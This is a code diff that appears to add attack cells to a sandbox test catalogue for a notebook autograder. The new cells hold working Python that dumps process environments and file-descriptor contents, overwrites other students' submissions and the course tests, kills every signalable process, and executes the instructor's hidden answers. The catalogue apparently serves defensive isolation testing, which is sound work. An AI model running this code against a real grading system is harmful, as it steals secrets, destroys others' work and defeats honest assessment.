@@ -8,6 +8,7 @@ a point by itself. What the walls alone refuse is tried by the attempts of `tito
 from __future__ import annotations
 
 from attacks.catalogue import cell
+from attacks.course import NONE
 
 LOOT = """
 import glob, os
@@ -44,6 +45,18 @@ loot("@workspace@/grading/**/*.py", "@course@/source/*/*", "@course@/autograded/
      "@scratch@/**/*.ipynb", "@scratch@/**/*.py", "/given/**", "/tmp/**/*.ipynb",
      "/tmp/**/*hidden*", "./**/*", "../**/*.ipynb", "../../**/*.ipynb")
 """,
+    "It prints every process's environment, and what its file descriptors hold": LOOT
+    + """
+print(dict(os.environ))
+loot("/proc/*/environ", "/proc/*/cmdline", "/proc/*/cwd/*.ipynb", "/proc/1/ro" "ot/@course@/*")
+for fd in range(3, 64):
+    try:
+        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
+        os.lseek(fd, 0, 0)
+        print(os.read(fd, 200_000).decode("latin-1"))
+    except (OSError, BlockingIOError) as problem:
+        pass
+""",
     "It gives everybody all points in the gradebook": """
 import glob, sqlite3
 for path in ["@course@/gradebook.db", "../../../gradebook.db",
@@ -55,6 +68,18 @@ for path in ["@course@/gradebook.db", "../../../gradebook.db",
         book.commit()
     except sqlite3.Error as problem:
         print(problem)
+""",
+    "It overwrites its neighbors' work, the release, the source and the tests": WRITE
+    + """
+for victim in "@victims@".split(","):
+    for path in (glob.glob(f"@course@/submitted/{victim}/*/*.ipynb")
+                 + glob.glob(f"../../../submitted/{victim}/*/*.ipynb")):
+        write(path, "{}", "w")
+    for kind in ("autograded", "feedback", "reports"):
+        write(f"@course@/{kind}/{victim}/@token@.html")
+for path in (glob.glob("@course@/release/*/*") + glob.glob("@course@/source/*/*")
+             + glob.glob("@workspace@/**/*.py", recursive=True) + ["@course@/nbgrader_config.py"]):
+    write(path)
 """,
     "It plants code where others would run it, and changes the package that it was given": WRITE
     + """
@@ -149,5 +174,43 @@ if os.fork() == 0:
     os._exit(0)
 os.wait()
 """,
+    "It kills its parent and every process that it may signal": """
+import os, signal
+for pid in (os.getppid(), *range(2, 400)):
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+try:
+    os.kill(-1, signal.SIGTERM)
+except OSError:
+    pass
+""",
 }
-ENTRIES = [cell(name, code, isolated=True) for name, code in CELLS.items()]
+ENTRIES = [
+    cell(
+        "It executes the instructor's answers from the repository and from the course directory",
+        LOOT
+        + """
+import json, re
+def steal(*_):
+    for path in (glob.glob("@workspace@/grading/modules/*/*.py") + glob.glob("@course@/source/*/*")
+                 + glob.glob("../../../source/*/*")):
+        try:
+            text = open(path).read()
+            for found in re.findall(r"(?:^|\\n)(#\\| export\\n.*?)(?=\\n# %%)", text, re.DOTALL):
+                exec(found, globals())
+            print(text)
+        except OSError as problem:
+            print(type(problem).__name__)
+steal()
+get_ipython().events.register("pre_run_cell", steal)
+""",
+        before="test-double",
+        solved=NONE,
+        page=True,
+        isolated=True,
+    ),
+    *(cell(name, code, isolated=True) for name, code in CELLS.items()),
+]
